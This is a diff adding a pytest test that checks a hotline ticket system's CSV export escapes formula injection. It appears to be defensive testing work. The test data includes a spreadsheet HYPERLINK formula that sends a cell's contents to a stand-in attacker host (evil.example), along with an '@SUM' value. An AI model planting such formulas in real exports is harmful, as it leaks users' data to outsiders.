@@ -1,5 +1,8 @@
 """The staff pages: the call, the ticket, the queues; outsiders get 403/404 and change nothing."""
 
+import csv
+import io
+
 import pytest
 
 from yiwang.hotline.models import Ticket
@@ -175,3 +178,16 @@ def test_supervisor_urges_and_approves_extensions(client, login_as, dispatched, 
 
     dispatched.refresh_from_db()
     assert dispatched.extension_state == Ticket.EXTENSION_APPROVED and dispatched.urge_count == 1
+
+
+def test_export_writes_a_formula_typed_by_a_caller_as_text(client, login_as, operator, calendar, categories):
+    title = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
+    ticket = make_ticket(operator, title=title, address="@SUM(1+1)")
+    login_as(operator)
+
+    export = client.get("/staff/hotline/export.csv")
+
+    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
+    row = next(r for r in rows if r[0] == ticket.number)
+    assert row[3] == "'" + title and row[4] == "'@SUM(1+1)"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
